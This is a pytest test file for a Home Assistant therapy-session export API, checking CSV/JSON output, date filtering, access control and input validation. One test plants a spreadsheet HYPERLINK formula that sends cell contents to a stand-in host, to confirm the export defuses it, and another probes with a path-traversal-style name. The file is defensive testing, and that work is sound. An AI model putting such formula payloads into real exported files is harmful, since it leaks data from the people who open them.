"""A person's sessions as a file: for whom, of when, and safe to open."""

import csv
from datetime import timedelta
import io
from typing import Any
from unittest.mock import patch

from aiohttp.test_utils import TestClient
from homeassistant.core import HomeAssistant
from homeassistant.helpers import device_registry as dr
from homeassistant.setup import async_setup_component
from homeassistant.util import dt as dt_util
import pytest
from pytest_homeassistant_custom_component.common import MockUser
from pytest_homeassistant_custom_component.typing import ClientSessionGenerator

from custom_components.facial_therapy.const import CONF_PERSON
from custom_components.facial_therapy.core.model import Channel, Dose, Modality
from custom_components.facial_therapy.storage.ledger import LEDGER
from custom_components.facial_therapy.web.export import FORMULA
from tests.integration.world import World, completed

URL = "/api/facial_therapy/export/Ada"
DAYS = 400
SESSIONS = 800


@pytest.fixture(autouse=True)
async def _server(hass: HomeAssistant) -> None:
    """Start the web server first, as Home Assistant does."""
    assert await async_setup_component(hass, "http", {})


async def give(
    world: World,
    *,
    days_ago: float,
    program: str = "fine_lines",
    session_id: str | None = None,
    modality: Modality = Modality.MASK,
) -> None:
    """Record an ended session."""
    dose = (
        Dose(fluence_j_cm2={Channel.RED: 16.8})
        if modality is Modality.MASK
        else Dose(charge_ma_min=0.98)
    )
    record = completed(
        world.person.person_id,
        dt_util.utcnow() - timedelta(days=days_ago),
        dose,
        session_id=session_id or f"{round(days_ago * 10_000):016x}",
        mac=world.coordinator.mac,
        modality=modality,
        profile=world.person.profile,
        program=program,
    )
    await world.hass.data[LEDGER].async_merge(world.hass, record)


async def rows(client: TestClient[Any, Any], **query: str) -> list[dict[str, str]]:
    """Return the rows of the CSV file."""
    response = await client.get(URL, params={"format": "csv", **query})
    assert response.status == 200
    return list(
        csv.DictReader(io.StringIO((await response.read()).decode("utf-8-sig"), newline=""))
    )


async def test_every_session_is_a_row_the_oldest_first(
    world: World, hass_client: ClientSessionGenerator
) -> None:
    await give(world, days_ago=1)
    await give(world, days_ago=3, modality=Modality.WAND)
    client = await hass_client()
    wand, mask = await rows(client)
    assert (mask["program"], mask["outcome"], mask["device"], mask["counts"]) == (
        "fine_lines",
        "completed",
        "Mask node",
        "True",
    )
    assert (float(mask["delivered_at_most_red_j_cm2"]), float(mask["planned_blue_j_cm2"])) == (
        16.8,
        0,
    )
    assert float(wand["delivered_at_least_charge_ma_min"]) == 0.98
    as_json = await (await client.get(URL, params={"format": "json"})).json()
    assert as_json["person"] == "Ada"
    assert [session["session_id"] for session in as_json["sessions"]] == [
        wand["session_id"],
        mask["session_id"],
    ]
    assert "started_by" not in as_json["sessions"][0]


async def test_a_session_that_is_not_settled_is_a_range(
    world: World, hass_client: ClientSessionGenerator
) -> None:
    await world.run()
    [row] = await rows(await hass_client())
    assert row["outcome"] == "uncertain"
    assert (
        float(row["delivered_at_least_red_j_cm2"])
        < float(row["delivered_at_most_red_j_cm2"])
        == float(row["planned_red_j_cm2"])
    )


async def test_a_period_begins_and_ends_where_it_is_said(
    world: World, hass_client: ClientSessionGenerator
) -> None:
    for days_ago in (1, 2, 3, 4):
        await give(world, days_ago=days_ago)
    client = await hass_client()
    at = {days: (dt_util.utcnow() - timedelta(days=days)).isoformat() for days in (1, 2, 3, 4)}
    assert len(await rows(client, start=at[3])) == 3
    assert len(await rows(client, start=at[3], end=at[1])) == 2  # the end is not in it
    assert len(await rows(client, end=(dt_util.now() - timedelta(days=2)).date().isoformat())) == 2
    assert await rows(client, start=(dt_util.now() + timedelta(days=1)).date().isoformat()) == []


@pytest.mark.parametrize("sign", [pytest.param(sign, id=repr(sign)) for sign in FORMULA])
async def test_no_cell_is_a_formula(
    world: World, hass_client: ClientSessionGenerator, sign: str
) -> None:
    evil = f'{sign}HYPERLINK("http://192.0.2.1/?"&A1,"click")'
    registry = dr.async_get(world.hass)
    registry.async_update_device(world.device_id, name_by_user=evil)
    await give(world, days_ago=1, program=evil)
    client = await hass_client()
    [row] = await rows(client)
    assert row["program"] == row["device"] == f"'{evil}"
    assert not [value for value in row.values() if value.startswith(FORMULA)]
    [session] = (await (await client.get(URL, params={"format": "json"})).json())["sessions"]
    assert session["program"] == evil  # a program reads it as it is


async def test_more_than_a_year_of_two_sessions_a_day(
    world: World, hass_client: ClientSessionGenerator
) -> None:
    # Nobody has to look at each line while the ledger is filled.
    with patch("custom_components.facial_therapy.storage.ledger_writer.async_dispatcher_send"):
        for index in range(SESSIONS):
            await give(
                world, days_ago=DAYS * (SESSIONS - index) / SESSIONS, session_id=f"{index + 1:016x}"
            )
    client = await hass_client()
    found = await rows(client)
    assert len(found) == SESSIONS
    assert [row["started_at"] for row in found] == sorted(row["started_at"] for row in found)
    assert not [value for row in found for value in row.values() if value.startswith(FORMULA)]
    assert sum(float(row["delivered_at_most_red_j_cm2"]) for row in found) == pytest.approx(
        16.8 * SESSIONS
    )
    assert (
        len((await (await client.get(URL, params={"format": "json"})).json())["sessions"])
        == SESSIONS
    )


# --- whose it is ----------------------------------------------------------------------------------


async def test_nobody_who_is_not_signed_in_reads_anything(
    world: World, hass_client_no_auth: ClientSessionGenerator
) -> None:
    await give(world, days_ago=1)
    response = await (await hass_client_no_auth()).get(URL)
    assert response.status == 401
    assert b"fine_lines" not in await response.read()


async def test_only_the_person_and_admins_read_it(
    world: World,
    hass_client: ClientSessionGenerator,
    hass_read_only_access_token: str,
    hass_read_only_user: MockUser,
) -> None:
    await give(world, days_ago=1)
    other = await hass_client(hass_read_only_access_token)
    response = await other.get(URL)
    assert response.status == 403
    assert b"fine_lines" not in await response.read()
    entry = world.hass.config_entries.async_get_known_entry(world.person.person_id)
    world.hass.config_entries.async_update_entry(
        entry, data={**entry.data, CONF_PERSON: "person.ada"}
    )
    world.hass.states.async_set("person.ada", "home", {"user_id": hass_read_only_user.id})
    assert len(await rows(other)) == 1


# --- bad input ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"format": "xlsx"}, "format"),
        ({"format": ""}, "format"),
        ({"start": "yesterday"}, "start"),
        ({"end": "NaN"}, "end"),
        ({"end": "2026-13-40"}, "end"),
        ({"start": ""}, "start"),
        ({"start": "2026-11-02", "end": "2026-11-01"}, "end"),
    ],
)
async def test_a_question_that_makes_no_sense_is_refused_by_its_field(
    world: World, hass_client: ClientSessionGenerator, query: dict[str, str], field: str
) -> None:
    assert world.state() == "idle"
    response = await (await hass_client()).get(URL, params=query)
    assert response.status == 400
    assert (await response.json())["message"].startswith(f"{field}:")


@pytest.mark.parametrize("person", ["Nobody", "..%5c", "x" * 5000, "0"])
async def test_a_person_who_is_not_there_is_not_found(
    world: World, hass_client: ClientSessionGenerator, person: str
) -> None:
    assert world.state() == "idle"
    assert (await (await hass_client()).get(f"/api/facial_therapy/export/{person}")).status == 404
